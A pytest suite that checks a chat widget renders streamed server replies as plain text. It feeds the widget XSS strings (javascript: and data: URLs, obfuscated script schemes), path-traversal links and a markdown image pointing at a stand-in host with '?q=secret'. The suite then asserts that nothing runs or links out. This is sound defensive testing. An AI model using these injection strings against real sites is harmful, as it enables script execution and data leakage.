"""W1 to W4 and more: text that would be markup, through every field and every cut of a stream."""

import json

import pytest

from bot.widget.bundle import modules
from tests.browser.widget.backend import in_json
from tests.browser.widget.conftest import Guest
from tests.browser.widget.payloads import PAYLOADS
from tests.browser.widget.replies import ABSTAINED, ANSWERED, CITATION, PASSAGE, events

OURS = {
    *("ARTICLE", "A", "BDI", "BLOCKQUOTE", "BUTTON", "DETAILS", "DIV", "H3", "H4"),
    *("LI", "MARK", "OL", "P", "SPAN", "SUMMARY"),
}

FED = """
  const real = fetch;
  window.fetch = async (address, init) => {
    if (!String(address).endsWith("/api/chat")) return real(address, init);
    const { pieces, kind } = window.prepared;
    const body = new ReadableStream({
      pull(stream) {
        if (pieces.length) stream.enqueue(new Uint8Array(pieces.shift()));
        else stream.close();
      },
    });
    return new Response(body, { headers: { "Content-Type": kind } });
  };
"""
"""Lets a test cut a body where it likes, which no network promises to keep."""


def poisoned(payload: str) -> dict[str, object]:
    """Return a reply with a payload in whatever a document or a server puts into words."""
    quote = f"{payload} is quoted"
    words = {"title": payload, "source": payload, "headings": ["x", payload], "anchor": payload}
    place = {**words, "start": 0, "end": len(quote), "document_id": payload, "url": payload}
    citation = {**CITATION, **place, "quote": quote, "answers": []}
    passage = {**PASSAGE, **place, "text": quote}
    answer = f"{payload.splitlines()[0] or 'x'} [1]"
    return ANSWERED | {"answer": answer, "citations": [citation], "passages": [passage]}


def feed(guest: Guest, body: list[list[int]], *, kind: str = "text/event-stream") -> None:
    """Have the next question answered by these bytes, piece by piece."""
    prepared = {"pieces": body, "kind": kind}
    guest.page.evaluate("(prepared) => { window.prepared = prepared }", prepared)


def test_there_are_five_hundred_payloads_and_no_two_are_the_same() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 500


@pytest.mark.parametrize("payloads", [PAYLOADS[::2], PAYLOADS[1::2]], ids=["even", "odd"])
def test_w1_w2_w3_no_payload_is_anything_but_text_wherever_the_stream_is_cut(
    guest: Guest, payloads: list[str]
) -> None:
    guest.page.add_init_script(FED)
    guest.page.add_init_script("window.ran = 0; window.alert = () => { ran += 1 };")
    guest.put()
    guest.open()
    shown = guest.page.evaluate(
        """async (replies) => {
          const widget = document.querySelector("wherein-widget");
          const log = widget.shadowRoot.querySelector("#log");
          const shown = [];
          for (const { bytes, kind } of replies) {
            window.prepared = { pieces: bytes.map((byte) => [byte]), kind };
            log.replaceChildren();
            const done = new Promise((resolve) =>
              widget.addEventListener("wherein-answer", resolve, { once: true }));
            widget.ask("payload?");
            await done;
            shown.push({
              answer: log.querySelector(".answer").textContent,
              title: log.querySelector(".title").textContent,
              heading: log.querySelector(".headings").textContent,
              quote: log.querySelector(".quote").textContent,
              tags: [...new Set([...log.querySelectorAll("*")].map((one) => one.tagName))],
              links: [...log.querySelectorAll("[href], [src]")].map((one) => one.outerHTML),
              handlers: [...log.querySelectorAll("*")].flatMap((one) =>
                one.getAttributeNames().filter((name) => /^on|style/.test(name))),
            });
          }
          return shown;
        }""",
        [
            {"bytes": list(events(poisoned(payload))), "kind": "text/event-stream"}
            for payload in payloads
        ],
    )

    for payload, seen in zip(payloads, shown, strict=True):
        reply = poisoned(payload)
        assert seen["answer"] == reply["answer"]
        assert seen["title"] == payload
        assert seen["heading"] == f"x › {payload}"
        assert seen["quote"] == f"{payload} is quoted"
        assert set(seen["tags"]) <= OURS
        assert seen["links"] == []  # no payload is a document of the server
        assert seen["handlers"] == []
    assert guest.page.evaluate("ran") == 0
    assert guest.page.evaluate("document.title") == "Shop"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_w2_a_stream_reads_the_same_wherever_it_is_cut(guest: Guest, end: str) -> None:
    body = events(ANSWERED | {"answer": "é 😀 <b> [1]"}, end=end) + b"\n"
    cuts = [1, 2, 3, 7, 64, len(body) // 2, len(body)]
    guest.page.add_init_script(FED)
    guest.put()
    guest.open()

    for size in cuts:
        feed(guest, [list(body[at : at + size]) for at in range(0, len(body), size)])
        assert guest.get().locator(".answer").text_content() == "é 😀 <b> [1]"


def test_w2_every_single_cut_of_the_events_gives_the_same_events(guest: Guest) -> None:
    guest.put(policy="")
    module = modules()["events.js"].replace("export class", "window.EventReader = class")
    guest.page.evaluate(f"() => {{ {module} }}")
    differing = guest.page.evaluate(
        r"""() => {
          const text = ":x\r\nevent: a\r\ndata: 1\r\ndata:  2\r\n\r\n" +
            "data\rdata: é😀\r\revent: b\n\n\ndata: 3\n\n";
          const all = (pieces) => {
            const reader = new EventReader();
            return JSON.stringify(pieces.flatMap((piece) => reader.push(piece)));
          };
          const whole = all([text]);
          const cuts = [...text].map((_, at) => all([text.slice(0, at), text.slice(at)]));
          return [whole, [...new Set([all(text.split("")), ...cuts])]];
        }"""
    )

    expected = [
        {"name": "a", "data": "1\n 2"},
        {"name": "message", "data": "\né😀"},
        {"name": "message", "data": "3"},
    ]
    assert json.loads(differing[0]) == expected
    assert [json.loads(one) for one in differing[1]] == [expected]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "\tjava\nscript:alert(1)",
        "//evil.test/documents/x",
        "https://evil.test/documents/x",
        "/documents/../../admin",
        "/documents/%2e%2e/%2e%2e/admin",
        "/documents\\..\\..\\x",
        "/\\evil.test/documents/",
        "/api/documents",
        None,
        7,
        {"toString": "x"},
    ],
)
def test_w3_w4_a_link_leads_to_documents_of_the_server_or_is_none(
    guest: Guest, url: object
) -> None:
    reply = {"citations": [CITATION | {"url": url}], "passages": [PASSAGE | {"url": url}]}
    guest.put()
    guest.open()
    guest.server.on("/api/chat", in_json(ANSWERED | reply))
    assert guest.get().locator("a").count() == 0
    guest.server.on("/api/chat", in_json(ABSTAINED | reply))
    assert guest.get().locator("a").count() == 0


def test_w4_what_markdown_would_fetch_or_link_is_text(guest: Guest) -> None:
    evil = (
        "![](https://evil.test/?q=secret) ![a][b] [c](https://evil.test) <https://evil.test> "
        "https://evil.test url(https://evil.test/x) @import 'https://evil.test'"
    )
    guest.server.on("/api/chat", in_json(poisoned(evil)))
    guest.put()
    guest.open()
    turn = guest.get()

    assert turn.locator(".answer").text_content() == f"{evil} [1]"
    assert turn.locator("a, img").count() == 0


@pytest.mark.parametrize(
    "contact", ["javascript:alert(1)", "data:text/html,x", "\tjavascript:alert(1)", "http://["]
)
def test_w3_a_contact_that_is_no_address_is_left_out(guest: Guest, contact: str) -> None:
    guest.server.on("/api/chat", in_json(ABSTAINED))
    guest.put(body=guest.tag(contact=contact))
    guest.open()

    assert guest.get().locator("a.contact").count() == 0
